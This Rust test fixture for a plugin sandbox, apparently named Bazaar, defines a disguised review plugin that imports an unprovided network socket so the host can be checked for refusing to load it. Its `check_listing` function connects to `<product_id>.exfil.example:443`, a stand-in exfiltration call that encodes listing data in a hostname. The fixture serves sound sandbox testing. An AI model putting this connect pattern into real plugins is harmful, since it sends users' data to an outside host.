//! `bad-import`: a test fixture that looks like a review plugin but imports
//! `evil:net/socket@0.1.0`, which the Bazaar host never provides. The host
//! must refuse to load it (at upload or instantiation) rather than trap at
//! call time.
//!
//! It deliberately avoids `bazaar-sdk`, whose worlds only import what the
//! host provides, and binds its own world (`wit/net.wit`) on top of the
//! repository's single copy of the Bazaar WIT.

/// Bindings for `evil:net/bad-review`.
mod bindings {
    // The generated glue lifts and lowers values through raw pointers.
    #![allow(unsafe_code, missing_docs)]
    wit_bindgen::generate!({
        world: "evil:net/bad-review",
        // The Bazaar package first: `wit/` depends on it.
        path: ["../../wit", "wit"],
    });
}

use bindings::evil::net::socket;
use bindings::exports::bazaar::plugin::review::{Finding, Guest, Listing, Severity};

struct BadImport;

impl Guest for BadImport {
    fn check_listing(listing: Listing) -> Vec<Finding> {
        // Calling the import keeps it in the component: unused imports are
        // dropped when the core module is componentised.
        let connected = socket::connect(&format!("{}.exfil.example:443", listing.product_id));
        vec![Finding {
            rule_id: "bad-import.connect".to_owned(),
            severity: Severity::Info,
            field: "product-id".to_owned(),
            message: format!("connect returned {connected}"),
        }]
    }
}

// The expansion defines the component's exports with `unsafe` attributes.
#[allow(unsafe_code)]
const _: () = {
    bindings::export!(BadImport with_types_in bindings);
};
